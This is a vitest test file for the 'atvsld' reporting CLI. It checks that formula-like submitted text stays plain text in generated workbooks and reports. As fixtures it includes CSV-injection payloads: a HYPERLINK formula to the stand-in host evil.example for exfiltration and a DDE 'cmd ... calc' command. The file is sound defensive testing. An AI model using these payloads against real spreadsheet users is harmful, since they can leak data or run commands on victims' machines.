/**
 * Submitted text that starts like a formula (=, +, -, @) must stay text in
 * everything atvsld writes: the consolidated workbook (`atvsld consolidate`)
 * and the validate reports (JSON, JUnit, GitHub annotations). OWASP "CSV
 * injection": `=HYPERLINK(...)` exfiltrates, DDE `cmd|' /C calc'!A0` runs.
 */
import { mkdtemp, rename, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { COVER_FIELDS, SHEETS, STATUSES, TASK_COLUMNS } from '../../src/core/form/form-layout.js';
import { runBuiltCli, type CliRun } from './run-cli.js';

const HEADER_ROW = 4;
const HYPERLINK = '=HYPERLINK("http://evil.example/?q=a<b","bấm vào đây")';
const DDE = "=cmd|' /C calc'!A0";
/** Results and notes of the first tasks, in order. */
const TASK_TEXTS = [
  { results: HYPERLINK, notes: '+84 912 345 678' },
  { results: '-', notes: '@SUM(1,2)' },
  { results: '+ thêm 2 lớp tập huấn', notes: DDE },
  { results: '@Phòng Nghiệp vụ', notes: '-1' },
];
/** A status outside the list: its text is quoted in the diagnostic, so it reaches every report. */
const BAD_STATUS = '=1+1';
const COVER: Record<string, string> = {
  contactName: '=Nguyễn Thị Hương',
  phone: '+84 204 3854 321',
  email: '@atvsld',
  signer: '-Trần Văn Minh',
  signerTitle: '=2+3',
};

const col = (key: string): number => TASK_COLUMNS.findIndex((c) => c.key === key) + 1;

async function fillHostile(path: string): Promise<void> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  wb.getWorksheet(SHEETS.cover)!.eachRow((row) => {
    const field = COVER_FIELDS.find((f) => f.label === row.getCell(1).value);
    if (field?.key === 'reportDate') row.getCell(2).value = new Date(Date.UTC(2025, 11, 15));
    else if (field && COVER[field.key] !== undefined) row.getCell(2).value = COVER[field.key]!;
  });
  const tasks = wb.getWorksheet(SHEETS.tasks)!;
  for (let r = HEADER_ROW + 1, i = 0; r <= tasks.rowCount; r += 1, i += 1) {
    const texts = TASK_TEXTS[i];
    tasks.getCell(r, col('status')).value = i === TASK_TEXTS.length ? BAD_STATUS : STATUSES[0].label;
    tasks.getCell(r, col('results')).value = texts?.results ?? 'Đã thực hiện.';
    if (texts) tasks.getCell(r, col('notes')).value = texts.notes;
  }
  await wb.xlsx.writeFile(path);
}

/** Every cell of every sheet: where a formula would hide, and the text it holds. */
async function readCells(path: string): Promise<{ ref: string; formula: boolean; text: string }[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  const out: { ref: string; formula: boolean; text: string }[] = [];
  wb.eachSheet((sheet) =>
    sheet.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        out.push({ ref: `${sheet.name}!${cell.address}`, formula: cell.type === ExcelJS.ValueType.Formula, text: cell.text });
      }),
    ),
  );
  return out;
}

describe('submitted text that looks like a formula stays text in what atvsld writes', () => {
  let ws = '';
  let submissions = '';

  beforeAll(async () => {
    ws = await mkdtemp(join(tmpdir(), 'atvsld-injection-'));
    expect((await runBuiltCli(['init', '--province', 'Bắc Giang'], { cwd: ws })).code).toBe(0);
    submissions = join(ws, 'submissions', '2025');
    const made = await runBuiltCli(['template', '--year', '2025', '--agency', 'so-y-te', '--out', submissions, '--as-of', '2025-11-01'], { cwd: ws });
    expect(made.code, made.stderr).toBe(0);
    await fillHostile(join(submissions, 'bao-cao-atvsld-2025-so-y-te.xlsx'));
    // A file name is submitted text too.
    await rename(join(submissions, 'bao-cao-atvsld-2025-so-y-te.xlsx'), join(submissions, '=1+2 bao-cao-atvsld-2025-so-y-te.xlsx'));
  }, 60_000);

  afterAll(async () => {
    if (ws) await rm(ws, { recursive: true, force: true });
  });

  describe('the consolidated workbook', () => {
    let run: CliRun;
    let cells: { ref: string; formula: boolean; text: string }[] = [];

    beforeAll(async () => {
      run = await runBuiltCli(['consolidate', '--year', '2025', '--as-of', '2025-12-31', '--out', 'out/tong-hop.xlsx'], { cwd: ws });
      cells = run.code === 0 || run.code === 1 ? await readCells(join(ws, 'out', 'tong-hop.xlsx')) : [];
    }, 60_000);

    it('is written', () => {
      expect([0, 1], run.stderr).toContain(run.code);
      expect(cells.length).toBeGreaterThan(0);
    });

    // The report computes nothing in Excel, so any formula at all would be one smuggled in.
    it('holds no formula at all', () => {
      expect(cells.filter((c) => c.formula).map((c) => c.ref)).toEqual([]);
    });

    it.each(TASK_TEXTS.flatMap((t) => [t.results, t.notes]))('keeps %s as text', (text) => {
      expect(cells.filter((c) => !c.formula && c.text === text).length).toBeGreaterThan(0);
    });

    it('keeps the file name as text', () => {
      expect(cells.some((c) => !c.formula && c.text.includes('=1+2 bao-cao-atvsld-2025-so-y-te.xlsx'))).toBe(true);
    });
  });

  describe.each(['json', 'junit', 'github'] as const)('atvsld validate --format %s', (format) => {
    let run: CliRun;

    beforeAll(async () => {
      run = await runBuiltCli(['validate', submissions, '--year', '2025', '--format', format], { cwd: ws });
    }, 60_000);

    it('reports the status outside the list with its text unchanged', () => {
      expect(run.code, run.stderr).toBe(1);
      if (format === 'json') {
        const report = JSON.parse(run.stdout) as { files: { diagnostics: { code: string; message: string }[] }[] };
        const bad = report.files.flatMap((f) => f.diagnostics).find((d) => d.code === 'STATUS_INVALID');
        expect(bad?.message).toContain(BAD_STATUS);
      } else {
        expect(run.stdout).toContain('STATUS_INVALID');
        expect(run.stdout).toContain(BAD_STATUS);
      }
    });

    it('lets no submitted text break out of its field', () => {
      expect(run.stdout).not.toBe('');
      if (format === 'junit') {
        // Only markup atvsld wrote: every "<" opens a JUnit element, a declaration or CDATA.
        expect(run.stdout.replace(/<!\[CDATA\[[\s\S]*?\]\]>/g, '')).not.toMatch(/<(?![?/!]|testsuites?\b|testcase\b|failure\b|error\b|system-out\b|system-err\b|properties\b|property\b|skipped\b)/);
      }
      if (format === 'github') {
        for (const line of run.stdout.split('\n').filter(Boolean)) expect(line).toMatch(/^::(error|warning|notice)( |::)/);
      }
    });
  });
});
